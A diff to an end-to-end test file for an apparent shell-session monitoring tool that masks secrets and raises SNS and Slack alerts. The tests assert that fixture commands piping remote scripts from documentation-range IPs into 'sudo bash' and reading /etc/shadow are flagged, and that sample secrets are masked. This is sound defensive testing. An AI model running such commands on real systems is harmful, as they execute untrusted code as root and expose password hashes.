@@ -25,7 +25,11 @@ pytestmark = pytest.mark.e2e
 REPO = Path(__file__).resolve().parents[2]
 # Typed in events/session-risky.jsonl: a database password on the command line and an AWS secret access key.
 RISKY_SECRETS = ("Hunter2-Prod!", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY")
-OUTPUT_FILES = {"sns.jsonl", "slack.jsonl", "sanitized.jsonl", "enrollment.json", "functions.log"}
+OUTPUT_FILES = {"sns.jsonl", "slack.jsonl", "sanitized.jsonl", "enrollment.json", "functions.log", "sessions.jsonl"}
+# The session ledger step (demo/ledger.py): a command session read from its plain-text upload, a shell that never
+# streams.
+COMMAND_SESSION = "jane.roe-0c1d2e3f4a5b6c7d8"
+SILENT_SESSION = "sam.lee-0a7b3c9d1e5f2a4b8"
 
 
 @dataclass
@@ -64,7 +68,7 @@ def test_the_bundled_session_is_the_risky_one_with_its_secrets() -> None:
 
 
 def test_risky_commands_reach_the_sns_topic(demo: DemoRun) -> None:
-    commands = [record["command"] for record in alert_records(demo)]
+    commands = [record["command"] for record in alert_records(demo) if "command" in record]
     assert "curl -s https://198.51.100.23/i.sh | sudo bash" in commands
     assert "cat /etc/shadow | head -n 2" in commands
     for message in demo.lines("sns.jsonl"):
@@ -90,11 +94,47 @@ def test_no_secret_of_the_session_is_anywhere_in_what_the_demo_wrote_or_printed(
 def test_the_sanitized_transcript_holds_the_session_with_secrets_masked(demo: DemoRun) -> None:
     lines = demo.lines("sanitized.jsonl")
     commands = [line["text"] for line in lines if line["kind"] == "command"]
-    assert {line["log_stream"] for line in lines} == {"john.doe-0c9d8e7f6a5b4c3d2"}
+    assert {line["log_stream"] for line in lines} == {"john.doe-0c9d8e7f6a5b4c3d2", COMMAND_SESSION}
     assert "uptime" in commands
     mysql = next(c for c in commands if c.startswith("mysql -u admin"))
     assert "MASKED" in mysql
     assert any(line["kind"] == "output" and "48213" in line["text"] for line in lines)
+
+
+def test_sessions_jsonl_has_one_record_per_session_with_what_the_ledger_joined(demo: DemoRun) -> None:
+    sessions = {record["session_id"]: record for record in demo.lines("sessions.jsonl")}
+    assert set(sessions) == {"john.doe-0c9d8e7f6a5b4c3d2", COMMAND_SESSION, SILENT_SESSION}
+    for record in sessions.values():
+        assert {"session_id", "user", "target", "source_ip", "document", "streamed", "findings", "alerts"} <= set(
+            record
+        )
+    command = sessions[COMMAND_SESSION]
+    assert (command["document"], command["streamed"], command["source_ip"]) == (
+        "AWS-StartInteractiveCommand",
+        False,
+        "203.0.113.24",
+    )
+    assert command["alerts"] >= 1
+    assert "MASKED" in command["reason"]
+    silent = sessions[SILENT_SESSION]
+    assert (silent["streamed"], silent["findings"], silent["started_via"]) == (False, ["SG-LG-001"], "console")
+    assert sessions["john.doe-0c9d8e7f6a5b4c3d2"]["streamed"] is True
+
+
+def test_the_command_sessions_risky_command_reaches_sns_and_slack_with_its_context(demo: DemoRun) -> None:
+    # Given the AWS-StartInteractiveCommand session's transcript arrived only as plain-text log events
+    record = next(r for r in alert_records(demo) if r.get("session_id") == COMMAND_SESSION)
+    assert record["command"] == "curl -fsSL http://203.0.113.50/i.sh | sudo bash"
+    assert record["session"]["started_via"] == "cli"
+    assert any(COMMAND_SESSION in json.dumps(post) and "Download piped" in json.dumps(post)
+               for post in demo.lines("slack.jsonl"))  # fmt: skip
+
+
+def test_the_session_that_never_streamed_has_its_finding_in_sns_and_slack(demo: DemoRun) -> None:
+    (finding,) = [r for r in alert_records(demo) if r.get("rule_id") == "SG-LG-001"]
+    assert finding["session"]["session_id"] == SILENT_SESSION
+    assert finding["session"]["source_ip"] == "198.51.100.77"
+    assert any("Shell session not streamed" in json.dumps(post) for post in demo.lines("slack.jsonl"))
 
 
 def test_the_new_instance_is_enrolled_with_the_profile_and_an_agent_update(demo: DemoRun) -> None:
